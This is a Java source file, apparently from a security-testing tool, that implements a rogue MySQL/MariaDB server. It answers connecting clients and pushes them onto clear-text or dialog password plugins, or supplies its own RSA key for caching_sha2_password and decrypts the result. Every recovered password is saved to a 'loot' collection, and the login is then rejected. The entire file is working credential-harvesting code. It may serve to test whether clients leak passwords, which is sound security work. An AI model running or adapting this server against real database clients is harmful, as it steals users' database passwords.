package dev.blobmark.evidence.thief;

import java.io.ByteArrayOutputStream;
import java.io.DataInputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import java.security.KeyPair;
import java.security.KeyPairGenerator;
import java.util.Arrays;
import java.util.Base64;
import javax.crypto.Cipher;
import javax.net.ssl.SSLContext;
import javax.net.ssl.SSLSocket;

/**
 * Answers like a MySQL or MariaDB that requests a password, by a method that reveals it: in clear text, by plugins that
 * request that, or encrypted with a key that the server supplies.
 */
final class FalseMySql {

    /** The method of requesting the password. */
    enum Method {
        OWN_RSA_KEY("caching_sha2_password"),
        CLEAR_TEXT("mysql_clear_password"),
        DIALOG("dialog"),
        CLEAR_TEXT_IN_TLS("mysql_clear_password"),
        DIALOG_IN_TLS("dialog"),
        /** The client sends no password, only a hash. */
        NATIVE("mysql_native_password");

        private final String plugin;

        Method(String plugin) {
            this.plugin = plugin;
        }

        private boolean offersTls() {
            return this == CLEAR_TEXT_IN_TLS || this == DIALOG_IN_TLS;
        }
    }

    private static final int SSL = 0x800;
    /**
     * PROTOCOL_41, SECURE_CONNECTION, PLUGIN_AUTH, CONNECT_WITH_DB, LONG_PASSWORD, TRANSACTIONS, PLUGIN_AUTH_LENENC.
     */
    private static final int CAPABILITIES = 0x1 | 0x8 | 0x200 | 0x2000 | 0x8000 | 0x80000 | 0x200000;

    private static final byte[] SCRAMBLE = "abcdefghijklmnopqrst".getBytes(StandardCharsets.US_ASCII);
    private static final KeyPair KEY = keyPair();

    private final Loot loot;
    private final Method method;
    private final SSLContext tls;
    private Socket socket;
    private DataInputStream in;
    private OutputStream out;
    private int sequence;

    FalseMySql(Loot loot, Method method, SSLContext tls, Socket socket) throws IOException {
        this.loot = loot;
        this.method = method;
        this.tls = tls;
        use(socket);
    }

    private void use(Socket newSocket) throws IOException {
        socket = newSocket;
        in = new DataInputStream(newSocket.getInputStream());
        out = newSocket.getOutputStream();
    }

    private static KeyPair keyPair() {
        try {
            KeyPairGenerator generator = KeyPairGenerator.getInstance("RSA");
            generator.initialize(2048);
            return generator.generateKeyPair();
        } catch (GeneralSecurityException e) {
            throw new IllegalStateException(e);
        }
    }

    /** Sends the greeting, and records what the client sends. */
    void serve() throws IOException, GeneralSecurityException {
        greet();
        byte[] answer = receive();
        boolean wantsTls = answer.length == 32 && (answer[1] & SSL >> 8) != 0;
        if (wantsTls) {
            SSLSocket encrypted = (SSLSocket) tls.getSocketFactory().createSocket(socket, null, true);
            encrypted.setUseClientMode(false);
            encrypted.startHandshake();
            use(encrypted);
            answer = receive();
        }
        loot.loginBytes.add(answer.length);
        byte[] given = switchTo(method.plugin);
        switch (method) {
            case OWN_RSA_KEY -> requestWithKey(given);
            case NATIVE -> refuse();
            default -> {
                obtain(given);
                refuse();
            }
        }
    }

    private void greet() throws IOException {
        int capabilities = CAPABILITIES | (method.offersTls() ? SSL : 0);
        ByteArrayOutputStream packet = new ByteArrayOutputStream();
        packet.write(10);
        packet.writeBytes("8.4.9\0".getBytes(StandardCharsets.US_ASCII));
        packet.writeBytes(new byte[] {9, 0, 0, 0});
        packet.write(SCRAMBLE, 0, 8);
        packet.write(0);
        packet.write(capabilities);
        packet.write(capabilities >> 8);
        packet.write(45);
        packet.writeBytes(new byte[] {2, 0});
        packet.write(capabilities >> 16);
        packet.write(capabilities >> 24);
        packet.write(SCRAMBLE.length + 1);
        packet.writeBytes(new byte[10]);
        packet.write(SCRAMBLE, 8, 12);
        packet.write(0);
        packet.writeBytes("caching_sha2_password\0".getBytes(StandardCharsets.US_ASCII));
        send(packet.toByteArray());
    }

    private byte[] switchTo(String plugin) throws IOException {
        ByteArrayOutputStream packet = new ByteArrayOutputStream();
        packet.write(0xfe);
        packet.writeBytes((plugin + "\0").getBytes(StandardCharsets.US_ASCII));
        if (plugin.equals("dialog")) {
            packet.writeBytes("\4Password: \0".getBytes(StandardCharsets.US_ASCII));
        } else {
            packet.writeBytes(SCRAMBLE);
            packet.write(0);
        }
        send(packet.toByteArray());
        byte[] given = receive();
        loot.loginBytes.add(given.length);
        return given;
    }

    /** Reports that the password is not cached, and supplies a key for encrypting it. */
    private void requestWithKey(byte[] hashed) throws IOException, GeneralSecurityException {
        send(new byte[] {1, 4});
        byte[] given = receive();
        if (given.length == 1 && given[0] == 2) {
            String pem = "-----BEGIN PUBLIC KEY-----\n"
                    + Base64.getMimeEncoder(64, new byte[] {'\n'})
                            .encodeToString(KEY.getPublic().getEncoded())
                    + "\n-----END PUBLIC KEY-----\n";
            byte[] text = pem.getBytes(StandardCharsets.US_ASCII);
            byte[] packet = new byte[text.length + 1];
            packet[0] = 1;
            System.arraycopy(text, 0, packet, 1, text.length);
            send(packet);
            given = receive();
            loot.loginBytes.add(given.length);
            Cipher cipher = Cipher.getInstance("RSA/ECB/OAEPWithSHA-1AndMGF1Padding");
            cipher.init(Cipher.DECRYPT_MODE, KEY.getPrivate());
            byte[] password = cipher.doFinal(given);
            for (int i = 0; i < password.length; i++) {
                password[i] ^= SCRAMBLE[i % SCRAMBLE.length];
            }
            obtain(password);
        } else {
            obtain(given);
        }
        refuse();
    }

    private void obtain(byte[] password) {
        int length = password.length;
        while (length > 0 && password[length - 1] == 0) {
            length--;
        }
        if (length > 0) {
            loot.passwords.add(new String(Arrays.copyOf(password, length), StandardCharsets.UTF_8));
        }
    }

    private void refuse() throws IOException {
        ByteArrayOutputStream packet = new ByteArrayOutputStream();
        packet.writeBytes(new byte[] {(byte) 0xff, 0x15, 0x04});
        packet.writeBytes("#28000try again".getBytes(StandardCharsets.US_ASCII));
        send(packet.toByteArray());
    }

    private void send(byte[] packet) throws IOException {
        byte[] all = new byte[packet.length + 4];
        all[0] = (byte) packet.length;
        all[1] = (byte) (packet.length >> 8);
        all[3] = (byte) sequence++;
        System.arraycopy(packet, 0, all, 4, packet.length);
        out.write(all);
        out.flush();
    }

    private byte[] receive() throws IOException {
        byte[] head = new byte[4];
        in.readFully(head);
        sequence = (head[3] & 0xff) + 1;
        byte[] packet = new byte[head[0] & 0xff | (head[1] & 0xff) << 8 | (head[2] & 0xff) << 16];
        in.readFully(packet);
        return packet;
    }
}
